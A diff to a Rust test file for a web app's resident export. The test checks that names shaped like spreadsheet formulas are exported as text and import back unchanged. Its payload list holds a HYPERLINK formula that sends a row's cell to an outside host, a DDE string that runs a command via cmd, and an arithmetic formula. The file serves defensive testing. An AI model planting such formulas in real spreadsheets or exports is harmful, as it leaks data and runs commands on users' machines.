@@ -433,9 +433,10 @@ async fn the_compounds_geojson_carries_the_owners_committee_and_imports_again() 
 }
 
 /// Names an attacker would give a resident so that the exporter's spreadsheet runs them (OWASP,
-/// "CSV Injection"): a link that sends the row away, a DDE command, arithmetic.
+/// "CSV Injection"): a link that sends the row away, a DDE command, arithmetic (each within the
+/// 30 characters a name may have).
 const FORMULA_NAMES: [&str; 3] = [
-    "=HYPERLINK(\"http://evil.example/?x=\"&F2,\"点击\")",
+    "=HYPERLINK(\"//e.cn/\"&F2,\"点\")",
     "@SUM(1+1)*cmd|' /C calc'!A0",
     "+1-1",
 ];
@@ -447,7 +448,10 @@ async fn residents_named_like_formulas_are_exported_as_text_and_import_again_unc
         let app = gongzhi_web::router(state.with_cipher(cipher()));
         let grids: Vec<String> = GRIDS.iter().map(|g| g.to_string()).collect();
         let mut rows = resident_rows(4, &grids, 7);
-        let column = rows[0].iter().position(|h| h.starts_with("姓名")).expect("a name column");
+        let column = rows[0]
+            .iter()
+            .position(|h| h.starts_with("姓名"))
+            .expect("a name column");
         for (row, evil) in rows[1..].iter_mut().zip(FORMULA_NAMES) {
             row[column] = evil.to_string();
         }
